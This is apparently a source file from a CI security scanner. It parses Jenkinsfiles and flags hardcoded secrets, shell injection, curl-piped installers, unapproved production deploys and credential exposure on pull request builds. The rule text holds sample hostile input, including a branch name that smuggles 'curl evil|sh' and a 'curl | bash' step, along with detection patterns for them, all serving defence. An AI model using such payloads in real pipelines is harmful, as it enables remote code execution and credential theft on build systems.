"""Jenkins pipelines: declarative and scripted Jenkinsfiles, parsed with tree-sitter-groovy.

The Groovy tree gives every step call (``sh "..."``, ``sh(script: ...)``, ``stage('x') {}``),
every string with its quoting (single-quoted strings are literal; double-quoted GStrings
interpolate ``${...}`` and ``$name`` before the shell sees them) and every assignment inside
``environment {}``. The rules reason over those: what a GString interpolates into a shell
step, which variables hold credentials (``credentials()``, ``withCredentials`` bindings), which
stages deploy to production and whether an ``input`` approval precedes them.
"""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import lru_cache
from typing import TYPE_CHECKING

from pipesec.core.model import Confidence, Severity
from pipesec.core.redact import redact_line
from pipesec.scanners.pipelines.common import SECRETISH_NAME, Ctx, rule
from pipesec.scanners.pipelines.shell import CURL_PIPE, CURL_SUBST

if TYPE_CHECKING:  # tree-sitter is imported on first parse: rules load without it
    from tree_sitter import Language, Node

#: a Jenkinsfile larger than this is an error, not a silent skip
MAX_BYTES = 2_000_000
#: wall-clock budget of one parse
PARSE_SECONDS = 5.0
MAX_DEPTH = 400

_P = "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Build') {\n      steps {\n"
_E = "      }\n    }\n  }\n}\n"

HARDCODED = rule(
    "jenkins/hardcoded-credential",
    "Credential written in clear in a Jenkinsfile",
    Severity.HIGH,
    "A password or token in the Jenkinsfile is readable by everyone who can read the "
    "repository (and every fork), stays in git history, and is not masked in build logs "
    "the way Jenkins credentials are.",
    "Rotate it, store it in the Jenkins credentials store and bind it with "
    "`credentials('id')` in `environment {}` or with `withCredentials`.",
    "pipeline {\n  agent { label 'linux' }\n  environment {\n    DB_PASSWORD = 'Sup3r"
    "Secr3tPassw0rd'\n  }\n  stages {\n    stage('Test') {\n      steps {\n"
    "        sh './test.sh'\n      }\n    }\n  }\n}\n",
    "pipeline {\n  agent { label 'linux' }\n  environment {\n    DB_PASSWORD = "
    "credentials('db-password')\n  }\n  stages {\n    stage('Test') {\n      steps {\n"
    "        sh './test.sh'\n      }\n    }\n  }\n}\n",
    cwe=("CWE-798",),
)

SECRET_INTERPOLATION = rule(
    "jenkins/secret-interpolation",
    "Credential interpolated by Groovy into a shell step",
    Severity.HIGH,
    'In `sh "curl -u ${PASS} ..."` Groovy puts the secret into the command text before the '
    "shell runs: it lands in the process list, in `set -x` traces and in Jenkins' own "
    "warning log, and a secret holding quotes or `$(...)` breaks or injects the command.",
    "Use single quotes so the shell reads the variable from the environment: "
    "`sh 'curl -u \"$PASS\" ...'`.",
    _P + "        withCredentials([string(credentialsId: 'api', variable: 'TOKEN')]) {\n"
    "          sh \"curl -H 'Authorization: ${TOKEN}' https://api.example.com\"\n"
    "        }\n" + _E,
    _P + "        withCredentials([string(credentialsId: 'api', variable: 'TOKEN')]) {\n"
    "          sh 'curl -H \"Authorization: $TOKEN\" https://api.example.com'\n"
    "        }\n" + _E,
    cwe=("CWE-214", "CWE-78"),
    references=("https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation",),
)

INJECTION = rule(
    "jenkins/script-injection",
    "Build parameter or pull request field interpolated into a shell step",
    Severity.HIGH,
    "`params.*`, `env.CHANGE_TITLE`, `env.CHANGE_BRANCH` or `env.BRANCH_NAME` are chosen by "
    "whoever starts the build or opens the pull request; interpolated by Groovy into "
    "`sh`/`bat` they become shell code (a branch named `x;curl evil|sh` runs).",
    "Pass the value through the environment and quote it in the shell: "
    "`sh 'git checkout \"$BRANCH_NAME\"'` (single quotes, no Groovy interpolation).",
    _P + '        sh "git log --oneline ${env.CHANGE_BRANCH}"\n' + _E,
    _P + "        sh 'git log --oneline \"$CHANGE_BRANCH\"'\n" + _E,
    cwe=("CWE-78",),
)

BUILTIN_NODE = rule(
    "jenkins/builtin-node",
    "Build may run on the Jenkins controller (built-in node)",
    Severity.MEDIUM,
    "Steps on the built-in node run inside the controller: they can read every credential, "
    "job configuration and the secrets that decrypt them. `agent any` / `node {}` may land "
    "there; `label 'master'` or `'built-in'` always does.",
    "Set the built-in node's executors to 0 and run builds on agents selected by a label "
    "(`agent { label 'linux' }`).",
    "pipeline {\n  agent any\n  stages {\n    stage('Build') {\n      steps {\n"
    "        sh 'make'\n" + _E,
    "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Build') {\n      steps {\n"
    "        sh 'make'\n" + _E,
    cwe=("CWE-250",),
    confidence=Confidence.MEDIUM,
    references=("https://www.jenkins.io/doc/book/security/controller-isolation/",),
)

LIBRARY_UNPINNED = rule(
    "jenkins/library-unpinned",
    "Shared library loaded without a pinned version",
    Severity.MEDIUM,
    "`@Library('lib')` or `@Library('lib@main')` loads whatever that branch holds now; "
    "shared libraries often run as trusted code outside the sandbox, so a push to the "
    "library changes every pipeline that loads it.",
    "Pin a tag or a commit: `@Library('lib@v1.4.2') _`.",
    "@Library('ci-shared@main') _\n" + _P + "        sh 'make'\n" + _E,
    "@Library('ci-shared@v1.4.2') _\n" + _P + "        sh 'make'\n" + _E,
    cwe=("CWE-829",),
)

IMAGE_LATEST = rule(
    "jenkins/docker-image-latest",
    "Build container image without a pinned version",
    Severity.MEDIUM,
    "`image 'node:latest'` (or no tag) runs whatever the registry serves at build time; a "
    "compromised or broken push changes every build.",
    "Pin the image by digest (`node:20.11@sha256:...`) or at least an exact version tag.",
    "pipeline {\n  agent { docker { image 'node:latest' } }\n  stages {\n"
    "    stage('Build') {\n      steps {\n        sh 'npm ci'\n" + _E,
    "pipeline {\n  agent { docker { image 'node:20.11.1@sha256:" + "ab" * 32 + "' } }\n"
    "  stages {\n    stage('Build') {\n      steps {\n        sh 'npm ci'\n" + _E,
    cwe=("CWE-1357",),
)

CURL_PIPE_SHELL = rule(
    "jenkins/curl-pipe-shell",
    "Remote script piped straight into a shell",
    Severity.HIGH,
    "`curl ... | sh` runs whatever the server (or anyone who takes over the domain, the CDN "
    "or the network path) sends at that moment, with the build's credentials.",
    "Download to a file, verify its checksum against a pinned value, then run it.",
    _P + "        sh 'curl -fsSL https://get.example.dev/install.sh | bash'\n" + _E,
    _P + "        sh 'curl -fsSLo install.sh https://get.example.dev/v1.4.2/install.sh"
    " && sha256sum -c install.sh.sha256 && bash install.sh'\n" + _E,
    cwe=("CWE-494",),
)

DEPLOY_NO_INPUT = rule(
    "jenkins/deploy-without-approval",
    "Production deploy stage without an input approval",
    Severity.MEDIUM,
    "A production deploy that needs no human approval ships whatever reached the branch, "
    "including a change nobody reviewed or a build of a compromised dependency.",
    "Add an `input` directive (with `submitter`) to the stage, or an `input` step before "
    "the deploy.",
    "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Deploy production') {\n"
    "      steps {\n        sh 'kubectl --context prod apply -f k8s/'\n" + _E,
    "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('Deploy production') {\n"
    "      input {\n        message 'Deploy to production?'\n        submitter 'release'\n"
    "      }\n      steps {\n        sh 'kubectl --context prod apply -f k8s/'\n" + _E,
    cwe=("CWE-284",),
    confidence=Confidence.MEDIUM,
)

CREDENTIALS_ECHOED = rule(
    "jenkins/credentials-echoed",
    "Bound credential printed to the build log",
    Severity.HIGH,
    "Jenkins masks a credential only where it appears verbatim; `echo`ing it (or a "
    "transformation of it: base64, a substring, a URL containing it) prints the secret, "
    "and anyone who can read the build log gets it.",
    "Never print credentials; to debug, print whether the variable is set "
    "(`sh 'test -n \"$TOKEN\" && echo token set'`).",
    _P + "        withCredentials([string(credentialsId: 'api', variable: 'TOKEN')]) {\n"
    "          sh 'echo $TOKEN | base64'\n        }\n" + _E,
    _P + "        withCredentials([string(credentialsId: 'api', variable: 'TOKEN')]) {\n"
    "          sh 'curl -H \"Authorization: $TOKEN\" https://api.example.com'\n"
    "        }\n" + _E,
    cwe=("CWE-532",),
)

PR_CREDENTIALS = rule(
    "jenkins/pr-build-credentials",
    "Pull request builds run the PR's own Jenkinsfile with credentials in scope",
    Severity.HIGH,
    "A multibranch job builds a pull request with the Jenkinsfile from that pull request: "
    "whoever opens it can rewrite the steps and read every credential the pipeline binds "
    "(poisoned pipeline execution). Stages that bind credentials on pull request builds "
    "hand them to the PR author.",
    "Bind credentials only in stages that skip pull requests (`when { not { "
    "changeRequest() } }`), and trust only Jenkinsfiles from the target branch for forks "
    '("Trust" setting of the branch source).',
    "pipeline {\n  agent { label 'linux' }\n  environment {\n"
    "    NPM_TOKEN = credentials('npm-token')\n  }\n  stages {\n    stage('PR checks') {\n"
    "      when { changeRequest() }\n      steps {\n        sh 'npm ci && npm test'\n" + _E,
    "pipeline {\n  agent { label 'linux' }\n  stages {\n    stage('PR checks') {\n"
    "      when { changeRequest() }\n      steps {\n        sh 'npm ci && npm test'\n"
    "      }\n    }\n    stage('Publish') {\n      when { not { changeRequest() } }\n"
    "      environment {\n        NPM_TOKEN = credentials('npm-token')\n      }\n"
    "      steps {\n        sh 'npm publish'\n" + _E,
    cwe=("CWE-829", "CWE-522"),
    confidence=Confidence.MEDIUM,
)

RULES = (
    HARDCODED,
    SECRET_INTERPOLATION,
    INJECTION,
    BUILTIN_NODE,
    LIBRARY_UNPINNED,
    IMAGE_LATEST,
    CURL_PIPE_SHELL,
    DEPLOY_NO_INPUT,
    CREDENTIALS_ECHOED,
    PR_CREDENTIALS,
)

SHELL_STEPS = frozenset({"sh", "bat", "powershell", "pwsh"})
ENV_BLOCKS = frozenset({"environment"})
#: env fields a pull request author or a build starter chooses
UNTRUSTED_ENV = frozenset(
    {
        "CHANGE_TITLE",
        "CHANGE_BRANCH",
        "BRANCH_NAME",
        "CHANGE_AUTHOR",
        "CHANGE_AUTHOR_DISPLAY_NAME",
        "CHANGE_AUTHOR_EMAIL",
        "CHANGE_FORK",
        "GIT_BRANCH",
        "TAG_NAME",
    }
)
CRED_BINDING_KEYS = frozenset(
    {
        "variable",
        "passwordVariable",
        "keyFileVariable",
        "passphraseVariable",
        "usernamePasswordVariable",
        "tokenVariable",
    }
)
_INTERP = re.compile(r"(?<!\\)\$(?:\{(?P<expr>[^{}]*)\}|(?P<name>[A-Za-z_][\w.]*))")
_PROD = re.compile(r"(?<![a-z])(prod|production|prd|live)(?![a-z])", re.IGNORECASE)
_DEPLOY = re.compile(
    r"kubectl\b[^\n]*\s(?:apply|set|rollout|replace)\b|helm\b[^\n]*\s(?:upgrade|install)\b"
    r"|terraform\s+apply|\bdeploy\b|ansible-playbook|aws\s+(?:ecs|lambda|s3\s+sync|cloudformation)"
    r"|gcloud\s+\w+\s+deploy|az\s+webapp|docker\s+push|scp\b|rsync\b",
    re.IGNORECASE,
)
_PRINT = re.compile(r"\b(?:echo|printf|print|cat|tee|Write-Host|Write-Output)\b|\bset\s+-x\b")
_BRANCHY = re.compile(r"^(?:main|master|develop|dev|trunk|HEAD|latest|release)$|^[^\d]*$")


class JenkinsError(Exception):
    def __init__(self, message: str, line: int = 0, column: int = 0) -> None:
        super().__init__(message)
        self.message = message
        self.line = line
        self.column = column


@lru_cache(maxsize=1)
def _language() -> Language:
    import tree_sitter_groovy
    from tree_sitter import Language

    return Language(tree_sitter_groovy.language())


def parse(text: str) -> Node:
    """The root of the Groovy tree; :class:`JenkinsError` when over budget or not Groovy."""
    from tree_sitter import Parser

    source = text.encode("utf-8", "surrogatepass")
    if len(source) > MAX_BYTES:
        raise JenkinsError(f"Jenkinsfile larger than {MAX_BYTES // 1_000_000} MB; not analysed")
    deadline = time.monotonic() + PARSE_SECONDS

    def read(offset: int, _point: object) -> bytes:
        return source[offset : offset + 65536]

    def over(*_state: object) -> bool:
        return time.monotonic() > deadline

    try:
        tree = Parser(_language()).parse(read, progress_callback=over)
    except ValueError:
        raise JenkinsError(f"Jenkinsfile not parsed within {PARSE_SECONDS:g} s") from None
    root = tree.root_node
    if root.has_error and not root.named_children:
        raise JenkinsError("not a Groovy Jenkinsfile (nothing could be parsed)")
    return root


@dataclass(frozen=True, slots=True)
class GStr:
    """A string literal: its raw text between the quotes and whether Groovy interpolates it."""

    node: Node
    raw: str
    interpolating: bool


def string_of(node: Node | None) -> GStr | None:
    if node is None:
        return None
    if node.type not in ("string_literal", "character_literal"):
        return None
    text = _text(node)
    q = 3 if text[:3] in ('"""', "'''") else 1
    return GStr(node, text[q:-q] if len(text) >= 2 * q else "", text.startswith('"'))


@dataclass(eq=False)
class Call:
    """One step or directive: ``name args { body }``, with the calls around it."""

    name: str
    node: Node
    positional: list[Node] = field(default_factory=list)
    named: dict[str, Node] = field(default_factory=dict)
    body: Node | None = None
    parent: Call | None = None

    def first_string(self, key: str = "") -> GStr | None:
        if key and key in self.named:
            return string_of(self.named[key])
        return string_of(self.positional[0]) if self.positional else None

    def ancestors(self) -> Iterator[Call]:
        c = self.parent
        while c is not None:
            yield c
            c = c.parent

    def stage(self) -> Call | None:
        return next((a for a in self.ancestors() if a.name == "stage"), None)


@dataclass(eq=False)
class Jenkinsfile:
    root: Node
    calls: list[Call] = field(default_factory=list)
    #: (name node, value node, enclosing call) of assignments inside environment {}
    env_assignments: list[tuple[Node, Node, Call]] = field(default_factory=list)
    #: ``agent any`` / ``agent none`` written as a declaration (node of the whole statement)
    agent_words: list[tuple[str, Node, Call | None]] = field(default_factory=list)
    libraries: list[tuple[str, Node]] = field(default_factory=list)


def _text(node: Node) -> str:
    return node.text.decode("utf-8", "replace") if node.text else ""


def _call_of(node: Node, parent: Call | None) -> Call | None:
    name_node = node.child_by_field_name("name")
    if name_node is None:
        return None
    obj = node.child_by_field_name("object")
    name = _text(name_node)
    if obj is not None:
        name = f"{_text(obj)}.{name}"
    call = Call(name, node, parent=parent)
    for field_name in ("arguments", "args"):
        args = node.child_by_field_name(field_name)
        if args is None:
            continue
        for a in args.named_children:
            if a.type == "map_item":
                k, v = a.child_by_field_name("key"), a.child_by_field_name("value")
                if k is not None and v is not None:
                    call.named[_text(k)] = v
            elif a.type == "closure":
                call.body = a
            else:
                call.positional.append(a)
    body = node.child_by_field_name("body")
    if body is not None:
        call.body = body
    for c in node.named_children:
        if c.type == "closure" and call.body is None:
            call.body = c
    return call


def build(root: Node) -> Jenkinsfile:
    jf = Jenkinsfile(root)
    stack: list[tuple[Node, Call | None, int]] = [(root, None, 0)]
    while stack:
        node, parent, depth = stack.pop()
        if depth > MAX_DEPTH:
            raise JenkinsError("Jenkinsfile nested too deeply to analyse")
        here = parent
        kind = node.type
        if kind in ("method_invocation", "juxt_function_call"):
            call = _call_of(node, parent)
            if call is not None:
                jf.calls.append(call)
                here = call
        elif kind == "assignment_expression" and parent is not None and parent.name in ENV_BLOCKS:
            left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
            if left is not None and right is not None:
                jf.env_assignments.append((left, right, parent))
        elif kind == "local_variable_declaration":
            type_node = node.child_by_field_name("type")
            decl = node.child_by_field_name("declarator")
            if type_node is not None and _text(type_node) == "agent" and decl is not None:
                jf.agent_words.append((_text(decl).strip(), node, parent))
        elif kind == "annotation":
            name_node = node.child_by_field_name("name")
            if name_node is not None and _text(name_node) == "Library":
                for s in _strings_under(node):
                    jf.libraries.append((s.raw, s.node))
        for c in reversed(node.named_children):
            stack.append((c, here, depth + 1))
    return jf


def _strings_under(node: Node) -> list[GStr]:
    out: list[GStr] = []
    stack = [node]
    while stack:
        n = stack.pop()
        s = string_of(n)
        if s is not None:
            out.append(s)
            continue
        stack.extend(reversed(n.named_children))
    return out


def _span(node: Node) -> tuple[int, int, int, int]:
    line, col = node.start_point[0] + 1, node.start_point[1] + 1
    end_line, end_col = node.end_point[0] + 1, node.end_point[1] + 1
    return line, col, end_line, end_col


def interpolations(s: GStr) -> list[str]:
    """The Groovy expressions a GString interpolates (``${a.b}`` and ``$a.b``)."""
    if not s.interpolating:
        return []
    return [(m.group("expr") or m.group("name") or "").strip() for m in _INTERP.finditer(s.raw)]


def _root_name(expr: str) -> tuple[str, str]:
    """``env.X`` -> ("env", "X"); ``params.X`` -> ("params", "X"); ``X`` -> ("", "X")."""
    m = re.match(r"^(env|params)\s*(?:\.\s*|\[\s*['\"])([A-Za-z_]\w*)", expr)
    if m:
        return m.group(1), m.group(2)
    m = re.match(r"^([A-Za-z_]\w*)", expr)
    return ("", m.group(1)) if m else ("", "")


def _script(call: Call) -> GStr | None:
    return call.first_string("script")


def _secret_vars(jf: Jenkinsfile) -> dict[str, str]:
    """Variables that hold credentials -> where they come from."""
    out: dict[str, str] = {}
    for left, right, _env in jf.env_assignments:
        if right.type == "method_invocation" and _text(right).startswith("credentials"):
            out[_text(left).strip()] = _text(right)[:60]
    for call in jf.calls:
        for k in CRED_BINDING_KEYS & call.named.keys():
            s = call.first_string(k)
            if s is not None and s.raw:
                out[s.raw] = f"withCredentials {call.name}()"
    return out


def _bound_in(call: Call) -> set[str]:
    """Credential variables bound by the ``withCredentials`` blocks around ``call``."""
    names: set[str] = set()
    for a in call.ancestors():
        if a.name != "withCredentials":
            continue
        for p in a.positional:
            for s in _strings_under(p):
                names.add(s.raw)
    return names


def check(ctx: Ctx, text: str) -> Jenkinsfile:
    """Run every Jenkins rule over one Jenkinsfile; raises :class:`JenkinsError`."""
    jf = build(parse(text))
    secrets = _secret_vars(jf)
    _check_environment(ctx, jf)
    for call in jf.calls:
        if call.name in SHELL_STEPS:
            _check_shell(ctx, call, secrets)
        elif call.name == "echo":
            _check_echo(ctx, call, secrets)
        elif call.name in ("node", "label"):
            _check_node(ctx, call)
        elif call.name in ("image", "docker.image"):
            _check_image(ctx, call)
        elif call.name == "library":
            s = call.first_string("identifier")
            if s is not None:
                _check_library(ctx, s.raw, s.node)
        elif call.name == "stage":
            _check_stage(ctx, jf, call)
    for word, node, parent in jf.agent_words:
        if word == "any" and (parent is None or parent.name == "pipeline"):
            ctx.hit(
                BUILTIN_NODE,
                _span(node),
                "`agent any` may run the pipeline on the built-in node",
                identity="agent-any",
            )
    for raw, node in jf.libraries:
        _check_library(ctx, raw, node)
    _check_pr_credentials(ctx, jf)
    return jf


def _check_environment(ctx: Ctx, jf: Jenkinsfile) -> None:
    for left, right, _env in jf.env_assignments:
        name = _text(left).strip()
        s = string_of(right)
        if s is None or not s.raw or interpolations(s) or not SECRETISH_NAME.search(name):
            continue
        if len(s.raw) < 6 or s.raw.lower() in ("changeme", "password", "secret", "token"):
            continue
        line = ctx.doc.line_text(right.start_point[0] + 1)
        at = line.find(s.raw)
        ctx.hit(
            HARDCODED,
            _span(right),
            f"{name} is set to a literal credential in environment {{}}",
            identity=ctx.secret_identity(s.raw),
            snippet=redact_line(line, at, at + len(s.raw)) if at >= 0 else name + " = ***",
        )


def _check_shell(ctx: Ctx, call: Call, secrets: dict[str, str]) -> None:
    s = _script(call)
    if s is None:
        return
    bound = _bound_in(call)
    for expr in interpolations(s):
        scope, name = _root_name(expr)
        if not name:
            continue
        if scope == "params" or (scope in ("env", "") and name in UNTRUSTED_ENV):
            ctx.hit(
                INJECTION,
                _span(s.node),
                f"`${{{expr}}}` is interpolated by Groovy into `{call.name}`; its value is"
                " chosen by whoever starts the build or opens the pull request",
                identity=f"inject:{s.node.start_point[0]}:{expr}",
            )
        elif scope in ("env", "") and (
            name in secrets or name in bound or (scope == "" and SECRETISH_NAME.search(name))
        ):
            ctx.hit(
                SECRET_INTERPOLATION,
                _span(s.node),
                f"credential `{name}` is interpolated by Groovy into the `{call.name}` command"
                " text; use single quotes and let the shell expand it",
                identity=f"interp:{s.node.start_point[0]}:{name}",
            )
    raw = s.raw
    if "curl" in raw or "wget" in raw:
        m = CURL_PIPE.search(raw) or CURL_SUBST.search(raw)
        if m is not None:
            ctx.hit(
                CURL_PIPE_SHELL,
                _span(s.node),
                f"`{' '.join(m.group().split())[:80]}` runs a remote script unverified",
                identity=f"curlpipe:{s.node.start_point[0]}",
            )
    names = bound | {n for n in secrets if n in raw}
    for line in raw.splitlines():
        if not _PRINT.search(line):
            continue
        for n in names:
            if re.search(r"\$\{?" + re.escape(n) + r"\b|%" + re.escape(n) + "%", line):
                ctx.hit(
                    CREDENTIALS_ECHOED,
                    _span(s.node),
                    f"credential `{n}` is printed by `{' '.join(line.split())[:60]}`",
                    identity=f"echo:{s.node.start_point[0]}:{n}",
                )
                break


def _check_echo(ctx: Ctx, call: Call, secrets: dict[str, str]) -> None:
    s = call.first_string()
    if s is None:
        return
    bound = _bound_in(call) | set(secrets)
    for expr in interpolations(s):
        _scope, name = _root_name(expr)
        if name in bound:
            ctx.hit(
                CREDENTIALS_ECHOED,
                _span(s.node),
                f"`echo` prints credential `{name}`",
                identity=f"echo:{s.node.start_point[0]}:{name}",
            )


def _check_node(ctx: Ctx, call: Call) -> None:
    s = call.first_string("label")
    label = s.raw.strip() if s is not None else None
    if call.name == "label" and not any(a.name == "agent" for a in call.ancestors()):
        return
    if label is not None and label in ("master", "built-in"):
        ctx.hit(
            BUILTIN_NODE,
            _span(s.node) if s is not None else _span(call.node),
            f"`{call.name} '{label}'` runs on the Jenkins controller",
            identity=f"builtin:{call.node.start_point[0]}",
            confidence=Confidence.HIGH,
            severity=Severity.HIGH,
        )
    elif call.name == "node" and label is None and not call.positional and call.body is not None:
        ctx.hit(
            BUILTIN_NODE,
            _span(call.node),
            "`node {}` without a label may run on the built-in node",
            identity=f"builtin:{call.node.start_point[0]}",
        )


def _check_image(ctx: Ctx, call: Call) -> None:
    if call.name == "image" and not any(a.name == "docker" for a in call.ancestors()):
        return
    s = call.first_string()
    if s is None or not s.raw or interpolations(s) or "@sha256:" in s.raw:
        return
    ref = s.raw.strip()
    last = ref.rsplit("/", 1)[-1]
    tag = last.split(":", 1)[1] if ":" in last else ""
    if tag in ("", "latest"):
        ctx.hit(
            IMAGE_LATEST,
            _span(s.node),
            f"image {ref!r} " + ("uses the latest tag" if tag else "has no tag (latest)"),
            identity=f"image:{ref}",
        )


def _check_library(ctx: Ctx, raw: str, node: Node) -> None:
    name, _, version = raw.partition("@")
    if not name.strip():
        return
    if version and not _BRANCHY.match(version.strip()):
        return
    ctx.hit(
        LIBRARY_UNPINNED,
        _span(node),
        f"shared library {name!r} "
        + (f"follows the branch {version!r}" if version else "loads its default version"),
        identity=f"library:{raw}",
    )


def _subtree_calls(jf: Jenkinsfile, stage: Call) -> list[Call]:
    return [c for c in jf.calls if c is not stage and stage in c.ancestors()]


def _check_stage(ctx: Ctx, jf: Jenkinsfile, stage: Call) -> None:
    s = stage.first_string()
    name = s.raw if s is not None else ""
    inner = _subtree_calls(jf, stage)
    scripts = " ".join(sc.raw for c in inner if c.name in SHELL_STEPS for sc in [_script(c)] if sc)
    deploys = bool(_DEPLOY.search(scripts)) or "deploy" in name.lower()
    if not deploys or not (_PROD.search(name) or _PROD.search(scripts)):
        return
    if any(c.name == "input" for c in inner):
        return
    line = stage.node.start_point[0]
    earlier = [c for c in jf.calls if c.name == "input" and c.node.start_point[0] < line]
    if earlier:
        return
    ctx.hit(
        DEPLOY_NO_INPUT,
        _span(stage.node)[:2] * 2,
        f"stage '{name}' deploys to production without an `input` approval",
        identity=f"noinput:{name}",
    )


def _is_pr_only(call: Call) -> bool:
    """A ``when { changeRequest() }`` (not negated) guards ``call``'s stage."""
    return "changeRequest" in _when_text(call) and "not" not in _when_text(call)


def _when_text(call: Call) -> str:
    st = call if call.name == "stage" else call.stage()
    if st is None or st.body is None:
        return ""
    for c in st.body.named_children:
        node = c.named_children[0] if c.type == "expression_statement" and c.named_children else c
        if node.type in ("method_invocation", "juxt_function_call"):
            n = node.child_by_field_name("name")
            if n is not None and _text(n) == "when":
                return _text(node)
    return ""


def _check_pr_credentials(ctx: Ctx, jf: Jenkinsfile) -> None:
    source = _text(jf.root)
    if "changeRequest" not in source and "CHANGE_ID" not in source:
        return  # nothing says this pipeline builds pull requests
    pr_stages = [c for c in jf.calls if c.name == "stage" and _is_pr_only(c)]
    for left, right, env in jf.env_assignments:
        if not _text(right).startswith("credentials"):
            continue
        st = env.stage()
        top_level = st is None
        if (top_level and pr_stages) or (st is not None and _is_pr_only(st)):
            ctx.hit(
                PR_CREDENTIALS,
                _span(right),
                f"`{_text(left).strip()} = {_text(right)[:60]}` is bound on pull request builds,"
                " whose Jenkinsfile the PR author controls",
                identity=f"prcreds:{_text(left).strip()}",
            )
    for call in jf.calls:
        if call.name == "withCredentials" and _is_pr_only(call):
            ctx.hit(
                PR_CREDENTIALS,
                _span(call.node)[:2] * 2,
                "withCredentials binds credentials in a stage that runs for pull requests",
                identity=f"prcreds:{call.node.start_point[0]}",
            )


def evidence(jf: Jenkinsfile) -> list[str]:
    """Commands, images and libraries of the pipeline, for the posture checks."""
    out: list[str] = []
    for call in jf.calls:
        if call.name in SHELL_STEPS:
            s = _script(call)
            if s is not None:
                out.append(s.raw)
        elif call.name in ("image", "docker.image", "library"):
            s = call.first_string()
            if s is not None:
                out.append(s.raw)
        else:
            out.append(call.name)
    out += [raw for raw, _ in jf.libraries]
    return out


def prod_deploys(jf: Jenkinsfile, hits: set[str]) -> bool:
    """Does the pipeline deploy to production (for the manual-approval posture gate)?"""
    for stage in (c for c in jf.calls if c.name == "stage"):
        s = stage.first_string()
        name = s.raw if s is not None else ""
        inner = _subtree_calls(jf, stage)
        scripts = " ".join(
            sc.raw for c in inner if c.name in SHELL_STEPS for sc in [_script(c)] if sc
        )
        deploys = bool(_DEPLOY.search(scripts)) or "deploy" in name.lower()
        if deploys and (_PROD.search(name) or _PROD.search(scripts)):
            return True
    return DEPLOY_NO_INPUT.id in hits
